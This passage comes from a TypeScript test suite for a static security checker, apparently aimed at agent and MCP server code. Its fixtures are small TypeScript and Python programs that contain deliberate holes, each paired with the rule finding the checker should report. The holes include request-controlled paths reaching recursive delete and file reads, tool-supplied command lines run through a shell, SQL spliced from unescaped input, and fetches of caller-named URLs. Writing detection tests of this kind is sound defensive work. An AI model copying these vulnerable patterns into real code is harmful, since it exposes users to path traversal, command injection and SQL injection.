  it('`p.startsWith(root + "/") || p.startsWith(root + "\\\\")` keeps p under the root; a test of a path and one of another value do not (TypeScript, Python)', async () => {
    // the shape of Archon's codebase removal
    const ts = `import { rm } from "node:fs/promises";
import { normalize } from "node:path";
const ROOT = normalize(process.env.WORKSPACES ?? "/srv/workspaces");
export async function POST(req: Request) {
  const { cwd, other } = await req.json();
  const p = normalize(cwd);
  if (p.startsWith(ROOT + "/") || p.startsWith(ROOT + "\\\\")) await rm(p, { recursive: true });
  const q = normalize(other);
  if (q.startsWith(ROOT + "/") || p.startsWith(ROOT + "\\\\")) await rm(q, { recursive: true });
}
`;
    expect(await check('app/api/codebases/route.ts', ts)).toEqual(['9 file-untrusted-path high']);
    const py = `import os, shutil
from fastapi import FastAPI
app = FastAPI()
ROOT = os.environ.get("WORKSPACES", "/srv/workspaces")

@app.delete("/codebases")
def remove(cwd: str, other: str):
    p = os.path.normpath(cwd)
    if p.startswith(ROOT + "/") or p.startswith(ROOT + "\\\\"):
        shutil.rmtree(p)
    q = os.path.normpath(other)
    if q.startswith(ROOT + "/") or p.startswith(ROOT + "\\\\"):
        shutil.rmtree(q)
`;
    expect(await check('server/routes/codebases.py', py)).toEqual(['13 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, thirty-fourth round: a working directory checked against the registered ones', () => {
  it('`if (!(await validateCwd(cwd))) return` leaves cwd, and a copy taken before the check, one the program registered; unchecked, it chooses the directory (TypeScript)', async () => {
    // the shape of Archon's workflow routes
    const src = `import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { validateCwd } from "../utils/cwd";
export async function GET(req: Request) {
  const cwd = new URL(req.url).searchParams.get("cwd") ?? "";
  let workingDir = cwd;
  if (!(await validateCwd(cwd))) return new Response("Invalid cwd", { status: 400 });
  return new Response(await readFile(join(workingDir, ".archon", "workflows", "default.yaml"), "utf-8"));
}
export async function POST(req: Request) {
  const cwd = new URL(req.url).searchParams.get("cwd") ?? "";
  return new Response(await readFile(join(cwd, ".archon", "workflows", "default.yaml"), "utf-8"));
}
`;
    expect(await check('app/api/workflows/route.ts', src)).toEqual(['12 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, thirty-fourth round: a check inside a branch on the value being given', () => {
  it('`if (cwd) { if (!(await validateCwd(cwd))) return } else { … }` leaves cwd and its copy checked or empty; a branch that only tests the value leaves it unchecked (TypeScript)', async () => {
    // the shape of Archon's workflow routes: the check sits inside `if (cwd)`, the other side picks a registered directory
    const src = `import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { validateCwd, registered } from "../utils/cwd";
export async function GET(req: Request) {
  const cwd = new URL(req.url).searchParams.get("cwd");
  let workingDir = cwd;
  if (cwd) {
    if (!(await validateCwd(cwd))) return new Response("Invalid cwd", { status: 400 });
  } else {
    const all = await registered();
    if (all.length > 0) workingDir = all[0];
  }
  if (workingDir) return new Response(await readFile(join(workingDir, "workflow.yaml"), "utf-8"));
}
export async function PUT(req: Request) {
  const cwd = new URL(req.url).searchParams.get("cwd");
  if (cwd) {
    if (!(await validateCwd(cwd))) return new Response("Invalid cwd", { status: 400 });
  }
  return new Response(await readFile(join(cwd ?? ".", "workflow.yaml"), "utf-8"));
}
export async function POST(req: Request) {
  const cwd = new URL(req.url).searchParams.get("cwd");
  let workingDir = cwd;
  if (cwd) {
    console.log("cwd given", cwd);
  } else {
    workingDir = "/srv/default";
  }
  return new Response(await readFile(join(workingDir, "workflow.yaml"), "utf-8"));
}
export async function DELETE(req: Request) {
  const cwd = new URL(req.url).searchParams.get("cwd");
  const name = new URL(req.url).searchParams.get("name");
  if (cwd && !(await validateCwd(cwd))) return new Response("Invalid cwd", { status: 400 });
  const found = await readFile(join(cwd ?? ".", "workflow.yaml"), "utf-8");
  if (name && !(await validateCwd(cwd))) return new Response("Invalid cwd", { status: 400 });
  return new Response(found + (await readFile(join(name ?? ".", "workflow.yaml"), "utf-8")));
}
`;
    expect(await check('app/api/workflows/route.ts', src)).toEqual(['30 file-untrusted-path high', '38 file-untrusted-path high']);
  });

  it('`if cwd: if not valid_cwd(cwd): abort(400)` with `else:` leaves cwd checked or empty; a branch that only tests it does not (Python)', async () => {
    const py = `import os
from flask import Flask, request, abort
from .cwd import valid_cwd, registered
app = Flask(__name__)

@app.get("/workflow")
def workflow():
    cwd = request.args.get("cwd")
    working_dir = cwd
    if cwd:
        if not valid_cwd(cwd):
            abort(400)
    else:
        working_dir = registered()[0]
    with open(os.path.join(working_dir, "workflow.yaml")) as f:
        return f.read()

@app.put("/workflow")
def put_workflow():
    cwd = request.args.get("cwd")
    if cwd is not None and not valid_cwd(cwd):
        abort(400)
    if cwd is None:
        cwd = "."
    with open(os.path.join(cwd, "workflow.yaml")) as f:
        return f.read()

@app.post("/workflow")
def post_workflow():
    cwd = request.args.get("cwd")
    if cwd:
        print("given", cwd)
    with open(os.path.join(cwd or ".", "workflow.yaml")) as f:
        return f.read()
`;
    expect(await check('server/routes/workflow.py', py)).toEqual(['33 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, thirty-fourth round: a containment test said the other way', () => {
  it('`!normalize(p).startsWith(normalize(dir) + sep) && normalize(p) !== normalize(dir)` then return keeps p in dir; an inequality with another value does not (TypeScript, Python)', async () => {
    // the shape of Archon's artifact route
    const ts = `import { readFile } from "node:fs/promises";
import { join, normalize, sep } from "node:path";
const DIR = process.env.ARTIFACTS ?? "/srv/artifacts";
export async function GET(req: Request) {
  const params = new URL(req.url).searchParams;
  const filePath = join(DIR, params.get("file") ?? "");
  const other = params.get("other") ?? "";
  if (!normalize(filePath).startsWith(normalize(DIR) + sep) && normalize(filePath) !== normalize(DIR)) return new Response("no", { status: 400 });
  const a = await readFile(filePath, "utf-8");
  const second = join(DIR, params.get("second") ?? "");
  if (!normalize(second).startsWith(normalize(DIR) + sep) && normalize(other) !== normalize(DIR)) return new Response("no", { status: 400 });
  return new Response(a + (await readFile(second, "utf-8")));
}
`;
    expect(await check('app/api/artifacts/route.ts', ts)).toEqual(['12 file-untrusted-path high']);
    const py = `import os
from fastapi import FastAPI
app = FastAPI()
DIR = os.environ.get("ARTIFACTS", "/srv/artifacts")

@app.get("/artifacts")
def artifact(file: str, second: str, other: str):
    p = os.path.join(DIR, file)
    if not os.path.normpath(p).startswith(os.path.normpath(DIR) + os.sep) and os.path.normpath(p) != os.path.normpath(DIR):
        raise ValueError("no")
    a = open(p).read()
    q = os.path.join(DIR, second)
    if not os.path.normpath(q).startswith(os.path.normpath(DIR) + os.sep) and os.path.normpath(other) != os.path.normpath(DIR):
        raise ValueError("no")
    return a + open(q).read()
`;
    expect(await check('server/routes/artifacts.py', py)).toEqual(['15 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, thirty-fifth round: private methods', () => {
  it('a `private` (or `#private`) method whose callers in the class pass constants starts a fixed program; one a public method hands its argument to does not (TypeScript)', async () => {
    // the shape of claude-task-master's loop service: `const command = sandbox ? "docker" : "claude"` passed to a private method
    const src = `import { spawn } from "node:child_process";
export class LoopService {
  constructor(private projectRoot: string) {}
  async run(prompt: string, sandbox: boolean, program: string) {
    await this.#start(program, ["--version"]);
    return this.executeIteration(prompt, sandbox);
  }
  private async executeIteration(prompt: string, sandbox: boolean): Promise<number> {
    const command = sandbox ? "docker" : "claude";
    return this.executeVerbose(prompt, command, sandbox);
  }
  private executeVerbose(prompt: string, command: string, sandbox: boolean): Promise<number> {
    const args = sandbox ? ["sandbox", "run", "claude", "-p", prompt] : ["-p", prompt];
    return new Promise((resolve) => {
      const child = spawn(command, args, { cwd: this.projectRoot });
      child.on("close", (code) => resolve(code ?? 0));
    });
  }
  #start(program: string, args: string[]) {
    return spawn(program, args);
  }
}
`;
    expect(await check('src/loop.service.ts', src)).toEqual(['20 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, thirty-fifth round: shlex.split of a command line', () => {
  it('`shlex.split(f"git clone -c http.extraHeader=\'Authorization: Bearer {token}\' {url} {dest}")` starts git; a line whose first word is a hole does not start a known program (Python)', async () => {
    // the shape of pr-agent's Bitbucket Server clone
    const py = `import shlex, subprocess

class Provider:
    def __init__(self, token: str, tool: str):
        self.bearer_token = token
        self.tool = tool

    def clone(self, repo_url: str, dest_folder: str):
        cli_args = shlex.split(f"git clone -c http.extraHeader='Authorization: Bearer {self.bearer_token}' "
                               f"--filter=blob:none --depth 1 {repo_url} {dest_folder}")
        subprocess.run(cli_args, check=True)

    def version(self):
        subprocess.run(shlex.split(f"{self.tool} --version"), check=True)
`;
    // (since the seventy-first round, the clone's `{repo_url}` standing alone may be `--upload-pack=…`: low, with no source in sight)
    expect(await check('pr_agent/git_providers/provider.py', py)).toEqual(['11 subprocess-shell low', '14 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, thirty-fifth round: SQL string literals escaped by doubling', () => {
  it('`"\'" + s.replace("\'", "\'\'") + "\'"` spliced between quotes is low (no finding for DuckDB); the same text outside quotes, or undoubled, is not (Python, TypeScript)', async () => {
    // the shape of fast-agent's batch input over DuckDB
    const py = `import duckdb

def _sql_string_literal(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"

def _view_query(sources: list[str]) -> str:
    source_list = ", ".join(_sql_string_literal(source) for source in sources)
    return f"CREATE OR REPLACE VIEW input AS SELECT * FROM read_parquet([{source_list}], union_by_name=true)"

def read(sources: list[str], table: str, name: str):
    connection = duckdb.connect()
    connection.execute(_view_query(sources))
    connection.execute(f"SELECT * FROM t WHERE a = {table.replace(chr(39), chr(39) * 2)}")
    connection.execute(f"SELECT * FROM t WHERE name = '{name}'")
`;
    // (DuckDB takes no backslash escape, so there the doubled quote closes the literal: no finding since the seventy-first
    // round; the same text for a database not known is low, as the TypeScript case below shows)
    expect(await check('src/batch/input.py', py)).toEqual(['13 sql-injection medium', '14 sql-injection medium']);
    const ts = `import Database from "better-sqlite3";
const db = new Database("app.db");
const literal = (s: string) => \`'\${s.replace(/'/g, "''")}'\`;
export function find(first: string, other: string) {
  db.exec(\`SELECT * FROM users WHERE name IN (\${literal(first)}, 'admin')\`);
  db.exec(\`SELECT * FROM users WHERE name = '\${other.replaceAll("'", "''")}'\`);
  db.exec(\`SELECT * FROM users WHERE name = '\${other.replace("'", "''")}'\`);
}
`;
    expect(await check('src/users.ts', ts)).toEqual(['5 sql-injection low', '6 sql-injection low', '7 sql-injection medium']);
  });
});

describe('agent code not used for tuning, thirty-sixth round: modules of the program\'s own packages', () => {
  it('`module_name.startswith(ALLOWED_PREFIXES)` with dotted package prefixes keeps import_module inside them; a prefix that is no package does not (Python)', async () => {
    // the shape of potpie's RPC decoder
    const py = `import importlib
from fastapi import FastAPI
app = FastAPI()
_ALLOWED = ("potpie_context_core.", "potpie.daemon.ports.")
_OTHER = ("potpie", "x/")

@app.post("/rpc")
def rpc(payload: dict):
    module_name = payload["module"]
    if not module_name.startswith(_ALLOWED):
        raise TypeError("not allowed")
    a = importlib.import_module(module_name)
    other = payload["other"]
    if not other.startswith(_OTHER):
        raise TypeError("not allowed")
    return a, importlib.import_module(other)
`;
    expect(await check('potpie/daemon/rpc.py', py)).toEqual(['16 code-dynamic-import high']);
  });
});

describe('agent code not used for tuning, thirty-sixth round: a monorepo\'s own MCP server', () => {
  it('an unpinned package one of the workspaces publishes (npm `workspaces`, pnpm-workspace.yaml) is low; a folder outside them and another publisher\'s stay medium', async () => {
    // the shape of context7's gemini-extension.json, naming the package of packages/mcp
    for (const layout of ['npm', 'pnpm'] as const) {
      const dir = mkdtempSync(path.join(os.tmpdir(), 'agentos-own-'));
      const root: Record<string, unknown> = { name: '@upstash/context7', private: true };
      if (layout === 'npm') root.workspaces = ['packages/*', 'tools/cli'];
      else writeFileSync(path.join(dir, 'pnpm-workspace.yaml'), 'packages:\n  - "packages/*"\n  - tools/cli\n\nallowBuilds:\n  esbuild: true\n');
      writeFileSync(path.join(dir, 'package.json'), JSON.stringify(root));
      for (const [sub, name] of [['packages/mcp', '@upstash/context7-mcp'], ['tools/cli', 'ctx7'], ['examples/demo', '@upstash/demo-mcp']]) {
        mkdirSync(path.join(dir, sub), { recursive: true });
        writeFileSync(path.join(dir, sub, 'package.json'), JSON.stringify({ name }));
      }
      const src = JSON.stringify(
        {
          mcpServers: {
            context7: { command: 'npx', args: ['-y', '@upstash/context7-mcp'] },
            cli: { command: 'npx', args: ['-y', 'ctx7'] },
            demo: { command: 'npx', args: ['-y', '@upstash/demo-mcp'] },
            theirs: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] },
          },
        },
        null,
        2,
      );
      try {
        expect(await check('gemini-extension.json', src, defaultConfig(dir)), layout).toEqual(['7 mcp-unpinned-server low', '14 mcp-unpinned-server low', '21 mcp-unpinned-server medium', '28 mcp-unpinned-server medium']);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    }
  });
});

describe('agent code not used for tuning, thirty-sixth round: a run helper other modules call', () => {
  it('`run(cmd)` whose every caller in other modules passes an argv list starting with `git` starts git; a caller passing another program keeps it reported (Python, TypeScript)', async () => {
    // the shape of potpie's `_git_ops.run` and awslabs' `run_command`
    const helper = `import subprocess

def run(cmd: list[str], *, timeout: int) -> subprocess.CompletedProcess[str]:
    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, check=False)
`;
    const users = `from sandbox.local._git_ops import run

def add_worktree(bare: str, path: str, base_ref: str):
    return run(["git", "-C", bare, "worktree", "add", "--", path, base_ref], timeout=120)

def fetch(bare: str):
    return run(["git", "-C", bare, "fetch", "--prune"], timeout=300)
`;
    const other = `import shutil
from sandbox.local._git_ops import run

def version(tool: str):
    return run([shutil.which(tool) or tool, "--version"], timeout=5)
`;
    expect(await checkProject({ 'sandbox/local/_git_ops.py': helper, 'sandbox/local/workspace.py': users })).toEqual([]);
    expect(await checkProject({ 'sandbox/local/_git_ops.py': helper, 'sandbox/local/workspace.py': users, 'sandbox/local/tools.py': other })).toEqual(['sandbox/local/_git_ops.py 4 subprocess-dynamic-command medium']);
    const tsHelper = `import { spawnSync } from "node:child_process";
export function run(cmd: string[]) {
  return spawnSync(cmd[0]!, cmd.slice(1), { encoding: "utf-8" });
}
`;
    const tsUsers = `import { run } from "./git-ops.js";
export const status = (dir: string) => run(["git", "-C", dir, "status"]);
`;
    const tsOther = `import { run } from "./git-ops.js";
export const start = (program: string) => run([program, "--version"]);
export const main = () => start(process.argv[2] ?? "node");
`;
    expect(await checkProject({ 'src/git-ops.ts': tsHelper, 'src/status.ts': tsUsers })).toEqual([]);
    expect(await checkProject({ 'src/git-ops.ts': tsHelper, 'src/status.ts': tsUsers, 'src/start.ts': tsOther })).toEqual(['src/git-ops.ts 3 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, thirty-seventh round: a registry of the server\'s own files', () => {
  it('`registry.get(id)` of a `new Map()` is what the program stored under the id, not the id; the id used as a path still is one (TypeScript)', async () => {
    // the shape of repomix's output registry, read back by the id a tool call passes
    const src = `import { readFile } from "node:fs/promises";
import { join } from "node:path";
const registry = new Map<string, { filePath: string }>();
export const registerOutputFile = (id: string, filePath: string) => registry.set(id, { filePath });
export const getOutputFilePath = (id: string) => registry.get(id)?.filePath;
export async function GET(req: Request) {
  const id = new URL(req.url).searchParams.get("id") ?? "";
  const filePath = getOutputFilePath(id);
  const stored = filePath ? await readFile(filePath, "utf8") : "";
  return new Response(stored + (await readFile(join("/tmp/outputs", id), "utf8")));
}
`;
    expect(await check('app/api/outputs/route.ts', src)).toEqual(['10 file-untrusted-path high']);
  });

  it('the same when the lookup is another module\'s function: its result carries none of its arguments (TypeScript)', async () => {
    const runtime = `const registry = new Map<string, { filePath: string }>();
export const registerOutputFile = (id: string, filePath: string) => { registry.set(id, { filePath }); };
export const getOutputFilePath = (id: string): string | undefined => registry.get(id)?.filePath;
export const outputPathFor = (id: string): string => \`/tmp/outputs/\${id}.xml\`;
`;
    const tool = `import fs from "node:fs/promises";
import { getOutputFilePath, outputPathFor } from "./runtime.js";
export async function GET(req: Request) {
  const outputId = new URL(req.url).searchParams.get("id") ?? "";
  const filePath = getOutputFilePath(outputId);
  const stored = filePath ? await fs.readFile(filePath, "utf8") : "";
  return new Response(stored + (await fs.readFile(outputPathFor(outputId), "utf8")));
}
`;
    expect(await checkProject({ 'app/api/outputs/runtime.ts': runtime, 'app/api/outputs/route.ts': tool })).toEqual(['app/api/outputs/route.ts 7 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, thirty-eighth round: values read back from Redis', () => {
  it('`r.get(f"webot_{user_id}")` on a Redis client is what the program stored, not the key; the key itself is still request input (Python)', async () => {
    // the shape of OpenAgents' web agent state, kept in Redis between requests
    const py = `import os, redis
from flask import Flask, request
app = Flask(__name__)
r = redis.Redis(host=os.getenv("REDIS_SERVER"), port=6379, db=0)

@app.post("/chat")
def chat():
    user_id = request.get_json()["user_id"]
    stored = r.get(f"upload_path_{user_id}")
    with open(stored.decode(), "rb") as f:
        data = f.read()
    with open(f"/srv/uploads/{user_id}", "rb") as g:
        return data + g.read()
`;
    expect(await check('backend/api/chat.py', py)).toEqual(['12 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, fortieth round: a graph node\'s configuration', () => {
  it('`state.config.retriever_endpoint` in a LangGraph node is the graph\'s configuration; a URL from the rest of the state is still its input (Python)', async () => {
    // the shape of WikiChat's search stage
    const py = `import requests
from langgraph.graph import StateGraph, START, END

def search_stage(state):
    endpoint = state.config.retriever_endpoint
    hits = requests.post(endpoint, json={"query": state.current_turn.search_query}).json()
    return {"hits": hits, "page": requests.get(state.current_turn.url).text}

graph = StateGraph(dict)
graph.add_node("search", search_stage)
graph.add_edge(START, "search")
graph.add_edge("search", END)
`;
    expect(await check('pipelines/chatbot.py', py)).toEqual(['7 egress-untrusted-url critical']);
  });
});

describe('agent code not used for tuning, forty-first round: command validators, pexpect and screen', () => {
  it('a command another module\'s `validate_command` let through starts a program it allows; the same command through a shell is still a shell line (Python)', async () => {
    // the shape of k8s-mcp-server: a tool's command, checked by a validator of the security module, split and started
    const security = `import shlex
ALLOWED = {"kubectl", "helm"}

def validate_command(command: str) -> None:
    parts = shlex.split(command)
    if not parts or parts[0] not in ALLOWED:
        raise ValueError("unsupported tool")
`;
    const executor = `import asyncio, shlex, subprocess
from k8s.security import validate_command

async def execute_command(command: str):
    try:
        validate_command(command)
    except ValueError as e:
        raise RuntimeError(str(e)) from e
    args = shlex.split(command)
    return await asyncio.create_subprocess_exec(*args)

def run_in_shell(command: str):
    validate_command(command)
    return subprocess.run(command, shell=True)

async def unchecked(command: str):
    return await asyncio.create_subprocess_exec(*shlex.split(command))
`;
    const server = `from mcp.server.fastmcp import FastMCP
from k8s.executor import execute_command, run_in_shell, unchecked
mcp = FastMCP("k8s")

@mcp.tool()
async def execute_kubectl(command: str) -> str:
    return str(await execute_command(command))

@mcp.tool()
def shell_kubectl(command: str) -> str:
    return str(run_in_shell(command))

@mcp.tool()
async def raw(command: str) -> str:
    return str(await unchecked(command))
`;
    expect(await checkProject({ 'k8s/security.py': security, 'k8s/executor.py': executor, 'k8s/server.py': server })).toEqual([
      'k8s/executor.py 14 subprocess-shell critical',
      'k8s/executor.py 17 subprocess-dynamic-command critical',
    ]);
  });

  it('a run helper every caller of which hands a command a command validator let through starts a program it allows (Python)', async () => {
    // the shape of mcp-shell-server: the executor validates, the process manager starts
    const py = `import shlex, subprocess
from shell.validator import validate_command

def _start(argv: list[str]):
    return subprocess.run(argv, capture_output=True)

def execute(line: str):
    argv = shlex.split(line)
    validate_command(argv)
    return _start(argv)

def unchecked(line: str):
    return _start(shlex.split(line))
`;
    // (with the unchecked caller, the helper's program is not known)
    expect(await check('shell/executor.py', py)).toEqual(['5 subprocess-dynamic-command medium']);
    expect(await check('shell/executor.py', py.slice(0, py.indexOf('def unchecked(')))).toEqual([]);
  });

  it('`pexpect.spawn(command)` starts the command\'s first word without a shell; with `args=["-c", ...]` the shell it names is judged as one (Python)', async () => {
    const py = `import os, pexpect
from mcp.server.fastmcp import FastMCP
mcp = FastMCP("term")

def _start_shell(shell_path: str, restricted: bool):
    cmd = shell_path
    if restricted:
        cmd += " -r"
    return pexpect.spawn(cmd, echo=True)

@mcp.tool()
def run(command: str) -> str:
    child = pexpect.spawn(command)
    shell = pexpect.spawn("/bin/bash", args=["-c", command])
    return child.read() + shell.read()

_start_shell(os.environ.get("SHELL", "/bin/bash"), True)
`;
    // (the user's own shell, from the environment: low)
    expect(await check('term/server.py', py)).toEqual(['9 subprocess-dynamic-command low', '13 subprocess-dynamic-command critical', '14 subprocess-shell critical']);
  });

  it('`screen -S <session> -X quit` sends a session an inert command; `screen -dmS <session> <program>` starts a program (Python)', async () => {
    // the shape of wcgw's clean-up of its own screen sessions
    const py = `import subprocess

def cleanup(sessions: list[str], program: str):
    for session in sessions:
        subprocess.run(["screen", "-S", session, "-X", "quit"], check=False)
    subprocess.run(["screen", "-dmS", sessions[0], program])
`;
    expect(await check('client/bash_state.py', py)).toEqual(['6 subprocess-shell medium']);
  });
});

describe('agent code not used for tuning, forty-second round: entries picked by a key, temporary files, argv lists or nothing', () => {
  it('`artifacts.get(file_path)` gives the entry the program stored, not the key; the key used as a path is still found (Python)', async () => {
    // the shape of deepagents' temporary artifacts, deleted by the path a tool call names only when the program made it
    const py = `import os
from pathlib import Path
from langchain_core.tools import tool

def _current_artifacts(state) -> dict:
    return {a["file_path"]: a for a in state.get("artifacts", [])}

@tool
def delete_temp_artifact(file_path: str, state: dict) -> str:
    """Delete one temporary artifact created for this request."""
    artifact = _current_artifacts({}).get(file_path)
    if artifact is None:
        return "denied"
    Path(artifact["file_path"]).unlink()
    os.remove(file_path)
    return "deleted"
`;
    expect(await check('agent/auto_mode.py', py)).toEqual(['15 file-untrusted-path critical']);
  });

  it('`tempfile.mkstemp(suffix=s, dir=d)` makes `{d}/tmpXXXXXXXX{s}`: a suffix a pattern of name characters let through cannot leave the directory; one it did not check can (Python)', async () => {
    const py = `import os, re, tempfile
from pathlib import Path
from langchain_core.tools import tool

_SUFFIX_RE = re.compile(r"(?:\\.[A-Za-z0-9][A-Za-z0-9._-]{0,31})?")

def _validate_suffix(suffix: str) -> str:
    if not _SUFFIX_RE.fullmatch(suffix):
        raise ValueError("suffix must be a short extension")
    return suffix

def _allocate(content: str, suffix: str) -> str:
    root = Path(tempfile.gettempdir()).absolute()
    fd, raw_path = tempfile.mkstemp(prefix="dcode-", suffix=suffix, dir=root)
    os.write(fd, content.encode())
    os.close(fd)
    Path(raw_path).unlink()
    return raw_path

@tool
def create_temp_artifact(content: str, suffix: str = "") -> str:
    """Create a private temporary file."""
    return _allocate(content, _validate_suffix(suffix))

@tool
def create_unchecked(content: str, suffix: str = "") -> str:
    """Create a temporary file with any suffix."""
    fd, raw_path = tempfile.mkstemp(suffix=suffix, dir=Path(tempfile.gettempdir()))
    os.close(fd)
    Path(raw_path).unlink()
    return raw_path
`;
    expect(await check('agent/artifacts.py', py)).toEqual(['30 file-untrusted-path critical']);
  });

  it('a helper returning one of two argv lists or `None` starts one of their programs; `base + [...]` keeps them (Python)', async () => {
    // the shapes of WrenAI's wrangler command and MindSearch's docker compose command
    const py = `import shutil, subprocess

def _wrangler_cmd() -> list[str] | None:
    if shutil.which("wrangler"):
        return ["wrangler"]
    if shutil.which("npx"):
        return ["npx", "wrangler"]
    return None

def _run(cmd: list[str]):
    return subprocess.run(cmd, capture_output=True)

def deploy(app_name: str, build_dir: str):
    base = _wrangler_cmd()
    if base is None:
        raise RuntimeError("wrangler is not installed")
    _run(base + ["pages", "project", "create", app_name])
    subprocess.run(base + ["pages", "deploy", build_dir], cwd=build_dir)

def start(program: str):
    _run([program, "--version"])
`;
    // (the helper a parameter's program reaches, through `start`, still starts anything)
    expect(await check('providers/cloudflare.py', py)).toEqual(['11 subprocess-dynamic-command low']);
    expect(await check('providers/cloudflare.py', py.slice(0, py.indexOf('def start(')))).toEqual([]);
  });

  it('a program from the environment or else found on PATH by a constant name is the operator\'s choice (low); a tool\'s own choice is not (Python)', async () => {
    const py = `import os, shutil, subprocess
from mcp.server.fastmcp import FastMCP
mcp = FastMCP("gui")

@mcp.tool()
def run_agent(task: str, program: str) -> str:
    agent_path = os.environ.get("AGENT_S_PATH") or shutil.which("agent_s")
    if not agent_path:
        return "not installed"
    subprocess.run([agent_path, "--task", task])
    subprocess.run([os.environ.get("AGENT_S_PATH") or program, "--task", task])
    return "done"
`;
    expect(await check('integrations/wrapper.py', py)).toEqual(['10 subprocess-dynamic-command low', '11 subprocess-dynamic-command critical']);
  });
});

describe('agent code not used for tuning, forty-third round: code that never runs, an index rebuilt', () => {
  it('a call after an unconditional `throw` is listed low; the same call reachable is not (TypeScript)', async () => {
    // the shape of mcp-server-commands' prompt handler, left behind a "not yet ported" error
    const ts = `import { exec } from "node:child_process";
import { promisify } from "node:util";
import { Server } from "@modelcontextprotocol/sdk/server/index.js";
import { CallToolRequestSchema, GetPromptRequestSchema } from "@modelcontextprotocol/sdk/types.js";
const execAsync = promisify(exec);
export function register(server: Server) {
  server.setRequestHandler(GetPromptRequestSchema, async (request) => {
    throw new Error("run_process not yet ported to prompts");
    const command_line = String(request.params.arguments?.command_line);
    const { stdout } = await execAsync(command_line);
    return { messages: [{ role: "user", content: { type: "text", text: stdout } }] };
  });
  server.setRequestHandler(CallToolRequestSchema, async (request) => {
    const command_line = String(request.params.arguments?.command_line);
    const { stdout } = await execAsync(command_line);
    return { content: [{ type: "text", text: stdout }] };
  });
}
`;
    expect(await check('src/prompts.ts', ts)).toEqual(['10 subprocess-shell low', '15 subprocess-shell critical']);
  });

  it('after `raise`, a call is listed low; after `response.raise_for_status()` or a `with suppress(...)` block that returns, it runs (Python)', async () => {
    const py = `import os, subprocess, requests
from contextlib import suppress
from langchain_core.tools import tool

@tool
def not_yet(command: str) -> str:
    """Run a command (not implemented)."""
    raise NotImplementedError("not yet")
    return os.popen(command).read()

@tool
def install(command: str) -> str:
    """Run an installer after downloading it."""
    response = requests.get("https://example.com/install.sh", timeout=60)
    response.raise_for_status()
    return subprocess.run(command, shell=True, capture_output=True, text=True).stdout

@tool
def cached(command: str, cache: dict) -> str:
    """Run a command unless its output is cached."""
    with suppress(KeyError):
        return cache[command]
    return os.popen(command).read()
`;
    expect(await check('agent/tools.py', py)).toEqual(['9 subprocess-shell low', '16 subprocess-shell critical', '23 subprocess-shell critical']);
  });

  it('emptying a table the file creates in a function named for rebuilding it is low; elsewhere it is not (Python)', async () => {
    // the shape of arxiv-mcp-server's semantic index
    const py = `import sqlite3

def _connect():
    conn = sqlite3.connect("index.db")
    conn.execute("CREATE TABLE IF NOT EXISTS semantic_index (paper_id TEXT PRIMARY KEY, embedding BLOB)")
    return conn

def rebuild_index(clear_existing: bool = True) -> int:
    if clear_existing:
        with _connect() as conn:
            conn.execute("DELETE FROM semantic_index")
            conn.commit()
    return 0

def search(query: str) -> list:
    with _connect() as conn:
        conn.execute("DELETE FROM semantic_index")
        return []
`;
    expect(await check('tools/semantic_search.py', py)).toEqual(['11 sql-destructive low', '17 sql-destructive high']);
  });
});

describe('agent code not used for tuning, forty-fourth round: a URL object handed to a helper, a repository of Python packages', () => {
  it('`new URL(`${BASE_URL}/s/${slug}/homes`).toString()` handed to a fetch helper keeps its fixed host; a URL the tool names does not (TypeScript)', async () => {
    // the shape of mcp-server-airbnb's search and listing tools
    const ts = `import { Server } from "@modelcontextprotocol/sdk/server/index.js";
import { CallToolRequestSchema } from "@modelcontextprotocol/sdk/types.js";
const BASE_URL = "https://www.airbnb.com";
async function fetchWithUserAgent(url: string) {
  return fetch(url, { headers: { "User-Agent": "agent" } });
}
async function search(params: { location: string; cursor?: string }) {
  const searchUrl = new URL(\`\${BASE_URL}/s/\${encodeURIComponent(params.location)}/homes\`);
  if (params.cursor) searchUrl.searchParams.append("cursor", params.cursor);
  return fetchWithUserAgent(searchUrl.toString());
}
async function open(params: { url: string }) {
  return fetchWithUserAgent(new URL(params.url).toString());
}
const server = new Server({ name: "airbnb", version: "1" }, { capabilities: { tools: {} } });
server.setRequestHandler(CallToolRequestSchema, async (request) => {
  const args = request.params.arguments as { location: string; url: string };
  return { content: [{ type: "text", text: String(await search(args)) + String(await open(args)) }] };
});
`;
    expect(await check('index.ts', ts)).toEqual(['5 egress-untrusted-url critical']);
    // (without the second tool, nothing)
    expect(await check('index.ts', ts.replace('String(await search(args)) + String(await open(args))', 'String(await search(args))'))).toEqual([]);
  });

  it('an unpinned package of one of the repository\'s Python packages (`servers/<name>/pyproject.toml`) is low; an example\'s and another publisher\'s stay medium', async () => {
    // the shape of mcp-neo4j's gemini-extension.json
    const dir = mkdtempSync(path.join(os.tmpdir(), 'agentos-own-py-'));
    for (const [sub, name] of [['servers/mcp-neo4j-cypher', 'mcp-neo4j-cypher'], ['servers/mcp-neo4j-cloud-aura-api', 'mcp_neo4j_aura_manager'], ['examples/demo', 'neo4j-demo-server']]) {
      mkdirSync(path.join(dir, sub), { recursive: true });
      writeFileSync(path.join(dir, sub, 'pyproject.toml'), `[project]\nname = "${name}"\nversion = "0.1.0"\n`);
    }
    const src = JSON.stringify(
      {
        mcpServers: {
          cypher: { command: 'uvx', args: ['mcp-neo4j-cypher'] },
          aura: { command: 'uvx', args: ['mcp-neo4j-aura-manager'] },
          demo: { command: 'uvx', args: ['neo4j-demo-server'] },
          theirs: { command: 'uvx', args: ['mcp-server-fetch'] },
        },
      },
      null,
      2,
    );
    try {
      expect(await check('gemini-extension.json', src, defaultConfig(dir))).toEqual(['6 mcp-unpinned-server low', '12 mcp-unpinned-server low', '18 mcp-unpinned-server medium', '24 mcp-unpinned-server medium']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

